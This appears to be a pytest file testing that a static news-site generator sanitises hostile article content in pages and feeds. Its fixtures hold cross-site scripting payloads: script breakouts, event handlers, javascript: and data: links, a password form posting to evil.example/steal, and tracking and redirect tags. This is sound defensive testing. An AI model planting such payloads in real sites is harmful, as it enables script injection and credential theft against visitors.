"""Untrusted content: whatever an article says, no script reaches readers of the pages or
the feeds, every piece of text reads back exactly as written, and pages load nothing
from other hosts except an article's own absolute image.
"""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import urlsplit

import feedparser
import pytest
from conftest import VnuErrors, make_project, run_here, tiny_png, write_article
from lxml import html

from generator.render.markdown import sanitise

# Text fields an attacker controls; each must come back as the same text everywhere.
TITLE = "</script><script>alert('t')</script> \"Quotes\" & <b>bold</b> ]]> end"
TAG = "<img src=x onerror=alert('tag')>"
SUMMARY = "Summary with </script><svg onload=alert('s')> and ]]> and \"quotes\"."
AUTHOR = "Eve <script>alert('a')</script>"
IMAGE_CREDIT = "'><iframe src=javascript:alert('c')>"
SOURCE = "</title><script>alert('src')</script>"

HOSTILE_BODY = """\
First paragraph with <script>alert('body')</script> a script.

<iframe src="https://evil.example/frame"></iframe>
<img src="x.png" onerror="alert('img')" alt="handler">
<a href="javascript:alert('js')">js link</a>
<a href=" JaVaScRiPt:alert('js2')">mixed case</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data image">
<svg onload="alert('svg')"><circle r="4"/></svg>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">
<form action="https://evil.example/steal"><input name="password"></form>
<style>body { background: url(https://evil.example/track.png) }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
<div style="background:url(https://evil.example/track.png)" onclick="alert('div')">styled</div>
<p><!-- a comment --></p>

[markdown js](javascript:alert('md'))
[markdown data](data:text/html,<script>alert(1)</script>)
![markdown data image](data:image/png;base64,iVBORw0KGgo=)

Read [the agency report](https://agency.example/report) for more.
"""

FRONT = f"""\
title: {json.dumps(TITLE)}
date: 2025-06-01T10:00:00+00:00
country: India
credits:
  author: {json.dumps(AUTHOR)}
  image: {json.dumps(IMAGE_CREDIT)}
  sources: [{json.dumps(SOURCE)}]
tags: [{json.dumps(TAG)}, Climate]
summary: {json.dumps(SUMMARY)}
"""

PHOTO = f"image:\n  src: photo.png\n  alt: {json.dumps(TITLE)}\n  caption: {json.dumps(SOURCE)}\n"
OTHER_HOST = "evil.example"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("untrusted")
    project = make_project(root / "project")
    write_article(project, "2025/06/hostile.md", FRONT + PHOTO, HOSTILE_BODY)
    (project / "content/2025/06/photo.png").write_bytes(tiny_png())
    # Raw-HTML images are checked like Markdown ones: the file the handler hides behind exists.
    (project / "content/2025/06/x.png").write_bytes(tiny_png())
    write_article(
        project,
        "2025/06/remote-image.md",
        FRONT.replace("2025-06-01", "2025-06-02")
        + "image:\n  src: https://images.example/photo.jpg\n  alt: A remote photo\n",
        "Plain body.\n",
    )
    result = run_here("build", "--output", str(root / "site"), cwd=project)
    assert result.returncode == 0, result.stderr
    return root / "site"


def pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def article_page(site: Path) -> html.HtmlElement:
    return html.parse(str(site / "2025/06/01/hostile/index.html")).getroot()


def assert_harmless(tree: html.HtmlElement, where: str, search_page: bool = False) -> None:
    """No element or attribute in a parsed document can run script or load another host.

    The search page alone runs the theme's own search scripts (Pagefind's UI).
    """
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        assert tag not in {"iframe", "object", "embed", "form", "svg", "base", "style", "input"}, (
            f"{where}: <{tag}>"
        )
        own_script = (element.get("src") or "").startswith(("/sub/pagefind/", "/sub/static/"))
        if tag == "script" and not (search_page and own_script):
            assert element.get("type") == "application/ld+json", f"{where}: a script runs"
        if tag == "meta":
            assert element.get("http-equiv") is None, f"{where}: meta refresh"
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{where}: <{tag} {name}>"
            assert name.lower() != "style" or "url(" not in value, f"{where}: style url"
            if name.lower() in {"href", "src", "action", "data", "srcset", "formaction"}:
                scheme = urlsplit(value.strip()).scheme.lower()
                assert scheme not in {"javascript", "data", "vbscript"}, (
                    f"{where}: <{tag} {name}={value!r}>"
                )
                assert OTHER_HOST not in value, f"{where}: <{tag} {name}={value!r}>"


def test_no_page_carries_script_handlers_or_foreign_embeds(hostile_site: Path) -> None:
    found = pages(hostile_site)
    assert len(found) > 5
    for page in found:
        search_page = page.relative_to(hostile_site).as_posix() == "search/index.html"
        assert_harmless(html.parse(str(page)).getroot(), page.name, search_page)
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text
        assert "<iframe" not in text


def test_the_safe_parts_of_the_body_are_kept(hostile_site: Path) -> None:
    body = article_page(hostile_site).find_class("article-body") or [article_page(hostile_site)]
    text = body[0].text_content()
    assert "First paragraph with" in text
    assert "styled" in text
    links = {a.text_content(): a for a in article_page(hostile_site).iter("a")}
    assert links["the agency report"].get("href") == "https://agency.example/report"
    assert "noopener" in links["the agency report"].get("rel", "").split()
    for name in ("js link", "mixed case", "data link", "markdown js", "markdown data"):
        href = links[name].get("href") if name in links else None
        assert href is None or urlsplit(href.strip()).scheme.lower() not in {"javascript", "data"}


def test_every_link_to_another_site_gets_noopener(hostile_site: Path) -> None:
    for page in pages(hostile_site):
        for link in html.parse(str(page)).getroot().iter("a"):
            href = link.get("href") or ""
            if urlsplit(href).netloc not in ("", "127.0.0.1:8000"):
                assert "noopener" in (link.get("rel") or "").split(), f"{page}: {href}"


def test_titles_tags_and_credits_read_back_exactly_in_the_page(hostile_site: Path) -> None:
    page = article_page(hostile_site)
    assert " ".join(page.findtext(".//h1").split()) == " ".join(TITLE.split())
    assert TITLE in page.findtext(".//title")
    text = page.text_content()
    for value in (TAG, AUTHOR, IMAGE_CREDIT, SOURCE):
        assert value in text, value
    metas = {m.get("property") or m.get("name"): m.get("content") for m in page.iter("meta")}
    assert metas["og:title"] == TITLE
    assert metas["description"] == SUMMARY
    assert [i.get("alt") for i in page.iter("img") if "photo.png" in i.get("src", "")] == [TITLE]


def test_json_ld_cannot_be_broken_out_of(hostile_site: Path) -> None:
    page = article_page(hostile_site)
    blocks = [s for s in page.iter("script")]
    assert len(blocks) == 1
    raw = (hostile_site / "2025/06/01/hostile/index.html").read_text(encoding="utf-8")
    inside = raw.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
    assert "<" not in inside
    data = json.loads(inside)
    assert data["headline"] == TITLE
    assert data["description"] == SUMMARY
    assert data["author"][0]["name"] == AUTHOR
    assert TAG in data["keywords"]


def as_text(detail: feedparser.FeedParserDict) -> str:
    """What a feed reader shows for a text construct: HTML is rendered, text is text."""
    if detail.type == "text/html":
        return str(html.fromstring(f"<div>{detail.value}</div>").text_content())
    return str(detail.value)


def test_feeds_carry_the_text_exactly_and_no_script(hostile_site: Path) -> None:
    for name in ("feed.xml", "atom.xml"):
        feed = feedparser.parse(str(hostile_site / name))
        assert not feed.bozo, (name, feed.bozo_exception)
        entry = next(e for e in feed.entries if e.link.endswith("/2025/06/01/hostile/"))
        assert entry.title == TITLE
        # feedparser files an RSS item's media:description (the image's alt text) under
        # summary_detail, though summary keeps the item's description: read that.
        summary = (
            feedparser.FeedParserDict(type="text/html", value=entry.summary)
            if name == "feed.xml"
            else entry.summary_detail
        )
        assert as_text(summary) == SUMMARY
        assert TAG in [t.term for t in entry.tags]
        content = html.fromstring(entry.content[0].value)
        assert_harmless(content, name)
        assert "First paragraph with" in content.text_content()
    raw_rss = (hostile_site / "feed.xml").read_bytes()
    assert b"<![CDATA[" not in raw_rss or b"]]]]><![CDATA[>" in raw_rss


def test_xml_feeds_parse_strictly_with_the_title_intact(hostile_site: Path) -> None:
    for name in ("feed.xml", "atom.xml", "tags/climate/feed.xml"):
        root = ET.parse(hostile_site / name).getroot()
        titles = [e.text for e in root.iter() if e.tag.rsplit("}", 1)[-1] == "title"]
        assert TITLE in titles, name


def test_json_feed_content_is_sanitised(hostile_site: Path) -> None:
    feed = json.loads((hostile_site / "feed.json").read_text(encoding="utf-8"))
    item = next(i for i in feed["items"] if i["url"].endswith("/2025/06/01/hostile/"))
    assert item["title"] == TITLE
    assert item["summary"] == SUMMARY
    assert TAG in item["tags"]
    assert item["authors"] == [{"name": AUTHOR}]
    assert_harmless(html.fromstring(item["content_html"]), "feed.json")


def test_opml_names_topic_feeds_exactly(hostile_site: Path) -> None:
    root = ET.parse(hostile_site / "feeds.opml").getroot()
    texts = [o.get("text") for o in root.iter("outline")]
    assert f"Test Desk: {TAG}" in texts


def test_pages_load_nothing_from_other_hosts_but_the_articles_own_image(
    hostile_site: Path,
) -> None:
    remote_uses = []
    for page in pages(hostile_site):
        tree = html.parse(str(page)).getroot()
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue
            loads = [element.get("src")]
            if element.tag == "link" and element.get("rel") not in ("canonical", "alternate"):
                loads.append(element.get("href"))
            for url in filter(None, loads):
                host = urlsplit(url).netloc
                if host and host != "127.0.0.1:8000":
                    remote_uses.append((page.relative_to(hostile_site).as_posix(), url))
    assert remote_uses, "the remote image is shown somewhere"
    assert {url for _, url in remote_uses} == {"https://images.example/photo.jpg"}
    css = (hostile_site / "static/style.css").read_text(encoding="utf-8")
    assert "http" not in css and "@import" not in css


def test_sanitise_keeps_what_news_needs() -> None:
    kept = sanitise(
        '<figure><img src="a.png" alt="x"><figcaption>Cap</figcaption></figure>'
        '<table><tr><th scope="col">H</th></tr><tr><td>1</td></tr></table>'
        "<blockquote><p><em>a</em> <strong>b</strong></p></blockquote>"
        '<ol start="3"><li>x</li></ol><a href="https://a.example/">l</a>'
    )
    tree = html.fragment_fromstring(kept, create_parent="div")
    assert {e.tag for e in tree.iter()} >= {
        "figure",
        "img",
        "figcaption",
        "table",
        "th",
        "td",
        "blockquote",
        "em",
        "strong",
        "ol",
        "li",
        "a",
    }
    assert tree.find(".//a").get("rel") == "noopener noreferrer"


def test_trusted_html_publishes_raw_html_as_written(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project", "trusted_html = true\n")
    write_article(
        project,
        "2025/06/embed.md",
        FRONT.replace(json.dumps(TITLE), "Embed"),
        'Watch:\n\n<iframe src="https://video.example/embed/1" title="v"></iframe>\n',
    )
    result = run_here("build", "--output", str(tmp_path / "site"), cwd=project)
    assert result.returncode == 0, result.stderr
    page = html.parse(str(tmp_path / "site/2025/06/01/embed/index.html")).getroot()
    assert [f.get("src") for f in page.iter("iframe")] == ["https://video.example/embed/1"]
    # The headline is still escaped: trusted_html is about bodies only.
    escaped = (tmp_path / "site/2025/06/01/embed/index.html").read_text(encoding="utf-8")
    assert TAG not in escaped


@pytest.mark.parametrize("engine", ["python-markdown", "gfm"])
def test_a_linked_web_page_file_is_refused_unless_the_site_trusts_its_editors(
    tmp_path: Path, engine: str
) -> None:
    """A .html (or .xhtml, .xml) file in content/ would be published as it is, and a reader
    opening its link would run its scripts on the site's own address: an error on the
    line that links it; a site with trusted_html = true publishes it."""
    story = FRONT.replace(json.dumps(TITLE), "Graphic")
    body = 'Text.\n\nSee [the graphic](graphic.html).\n\n<a href="data.xhtml">data</a>\n'
    sites = []
    for trusted in ("false", "true"):
        settings = f'markdown_engine = "{engine}"\ntrusted_html = {trusted}\n'
        project = make_project(tmp_path / trusted / "project", settings)
        write_article(project, "2025/06/graphic.md", story, body)  # the body starts on line 12
        (project / "content/2025/06/graphic.html").write_text("<script>steal()</script>")
        (project / "content/2025/06/data.xhtml").write_text("<html/>")
        sites.append(run_here("build", "--output", str(tmp_path / trusted / "site"), cwd=project))
    refused, trusted_build = sites

    assert refused.returncode == 1
    for line, name in [(14, "graphic.html"), (16, "data.xhtml")]:
        assert (
            f"content/2025/06/graphic.md:{line}: error: link {name!r}: content/2025/06/{name} is "
            "a web page file, published as it is, whose scripts would run on the site's own "
            "address"
        ) in refused.stderr, refused.stderr
    assert "fix: publish the page or graphic where it is made" in refused.stderr
    assert not (tmp_path / "false/site").exists()
    assert trusted_build.returncode == 0, trusted_build.stderr
    assert (tmp_path / "true/site/media/2025/06/graphic.html").is_file()


REMOVED_ADDRESSES = """\
Read the [memo](file:///C:/memo.pdf) or [run this](javascript:alert(1)).

<a href="data:text/html,x" id="raw">raw data link</a> and ![the chart](data:image/png;base64,AA)
"""


def test_links_whose_address_is_removed_leave_valid_html_and_a_warning(
    tmp_path: Path, vnu_errors: VnuErrors
) -> None:
    """A link or picture whose address the site does not publish (file:, javascript:,
    data:) is published as its text, in a page the Nu Html Checker passes, with either
    Markdown engine, and the build warns on the line where the address was typed."""
    story = "2025/06/01/removed/index.html"
    pages = []
    for engine in ("python-markdown", "gfm"):
        project = make_project(tmp_path / engine / "project", f'markdown_engine = "{engine}"\n')
        front = FRONT.replace(json.dumps(TITLE), "Removed")
        write_article(project, "2025/06/removed.md", front, REMOVED_ADDRESSES)  # body: line 12
        result = run_here("build", "--output", str(tmp_path / engine / "site"), cwd=project)
        assert result.returncode == 0, result.stderr
        for line, address in [
            (12, "file:///C:/memo.pdf"),
            (12, "javascript:alert(1)"),
            (14, "data:text/html,x"),
        ]:
            assert (
                f"content/2025/06/removed.md:{line}: warning: this link's address {address!r} "
                "is removed when published"
            ) in result.stderr, result.stderr
        assert "content/2025/06/removed.md:14: warning: this picture's address" in result.stderr
        page = tmp_path / engine / "site" / story
        body = html.parse(str(page)).getroot().find_class("body")[0]
        links = {a.text_content(): dict(a.attrib) for a in body.iter("a")}
        assert links["memo"] == links["run this"] == {}, engine
        assert links["raw data link"] == {"id": "raw"}, engine
        assert "the chart" in body.text_content() and not list(body.iter("img")), engine
        pages.append(page)
    errors, _ = vnu_errors(tmp_path, *pages)
    assert errors == []


@pytest.mark.parametrize("engine", ["python-markdown", "gfm"])
def test_a_windows_path_is_named_as_typed_with_the_file_name_to_write(
    tmp_path: Path, engine: str
) -> None:
    """`C:\\Users\\desk\\Chart.png` is a file on the editor's computer, not a 'c:' address:
    named with its backslashes as typed (not doubled, not %5C), and the fix gives the
    file name to write once the file is beside the article."""
    project = make_project(tmp_path / "project", f'markdown_engine = "{engine}"\n')
    front = FRONT.replace(json.dumps(TITLE), "Paths")
    body = "Intro.\n\n![c](C:\\Users\\desk\\Chart.png)\n"
    write_article(project, "2025/06/paths.md", front, body)  # the picture: line 14
    checked = run_here("check", cwd=project)
    assert (
        "content/2025/06/paths.md:14: warning: this picture's address "
        "'C:\\Users\\desk\\Chart.png' is a file on your own computer (drive C:)"
    ) in checked.stdout, checked.stdout
    assert "write its file name as the address: Chart.png" in checked.stdout
    assert "c: addresses" not in checked.stdout and "%5C" not in checked.stdout


def test_a_trusted_iframe_of_a_web_page_beside_the_story_is_published_at_its_address(
    tmp_path: Path,
) -> None:
    """Prober M16: with trusted_html, `<iframe src="graphic.html">` (or "graphic.html/") of
    a page in the story's folder loads it from where it is published, /media/..., as a link
    to it does, and so does a video's <source src>; another site's iframe is kept as typed,
    and a missing page is an error."""
    story = FRONT.replace(json.dumps(TITLE), "Graphic")
    body = (
        '<iframe src="graphic.html"></iframe>\n\n<iframe src="graphic.html/"></iframe>\n\n'
        '<iframe src="https://video.example/embed/1"></iframe>\n\n'
        '<video controls><source src="clip.mp4" type="video/mp4"></video>\n'
    )
    project = make_project(tmp_path / "project", "trusted_html = true\n")
    write_article(project, "2025/06/graphic.md", story, body)
    (project / "content/2025/06/graphic.html").write_text("<p>chart</p>")
    (project / "content/2025/06/clip.mp4").write_bytes(b"\0\0\0\x18ftypmp42")
    built = run_here("build", "--output", str(tmp_path / "site"), cwd=project)
    assert built.returncode == 0, built.stderr
    page = html.fromstring((tmp_path / "site/2025/06/01/graphic/index.html").read_bytes())
    assert [f.get("src") for f in page.iter("iframe")] == [
        "/sub/media/2025/06/graphic.html",
        "/sub/media/2025/06/graphic.html",
        "https://video.example/embed/1",
    ]
    assert (tmp_path / "site/media/2025/06/graphic.html").is_file()
    assert [s.get("src") for s in page.iter("source")] == ["/sub/media/2025/06/clip.mp4"]
    assert (tmp_path / "site/media/2025/06/clip.mp4").is_file()
    (project / "content/2025/06/graphic.html").unlink()
    checked = run_here("check", cwd=project)
    assert checked.returncode == 1
    assert "content/2025/06/graphic.md:12: error: link to 'graphic.html' points to no file" in (
        checked.stdout
    ), checked.stdout


def test_a_trusted_videos_still_and_a_typed_pictures_sources_are_published_too(
    tmp_path: Path,
) -> None:
    """Prober 2, M4: with trusted_html, `<video poster="still.png">` and a typed
    `<picture><source srcset="still.png">` kept their addresses (broken pictures, a missing
    still no error), and the <img> of a typed <picture> was put in a second <picture>,
    which HTML does not allow. Each is published at its /media/ address, checked as a src
    is; a typed <picture> keeps its one <img>; a picture elsewhere is still made one."""
    story = FRONT.replace(json.dumps(TITLE), "Clip")
    body = (
        '<video src="clip.mp4" poster="still.png" controls></video>\n\n'
        '<picture><source srcset="still.png 1x, ./still.png 2x"><img src="still.png" '
        'alt="A flooded street in Assam"></picture>\n\n'
        "![A flooded street in Assam](still.png)\n"
    )
    project = make_project(tmp_path / "project", "trusted_html = true\n")
    write_article(project, "2025/06/clip.md", story, body)
    (project / "content/2025/06/clip.mp4").write_bytes(b"\0\0\0\x18ftypmp42")
    (project / "content/2025/06/still.png").write_bytes(tiny_png())
    built = run_here("build", "--output", str(tmp_path / "site"), cwd=project)
    assert built.returncode == 0, built.stdout + built.stderr
    page = html.fromstring((tmp_path / "site/2025/06/01/clip/index.html").read_bytes())
    media = "/sub/media/2025/06/still.png"
    assert [v.get("poster") for v in page.iter("video")] == [media]
    typed, made = page.iter("picture")
    assert typed.find("source").get("srcset") == f"{media} 1x, {media} 2x"
    assert [i.get("src") for i in typed.iter("img")] == [media]
    assert not list(typed.iter("picture"))[1:] and made.find("source") is not None
    assert (tmp_path / "site/media/2025/06/still.png").is_file()
    write_article(project, "2025/06/clip.md", story, '<video poster="nope.png"></video>\n')
    checked = run_here("check", cwd=project)
    assert "content/2025/06/clip.md:12: error: link to 'nope.png' points to no file" in (
        checked.stdout
    ), checked.stdout
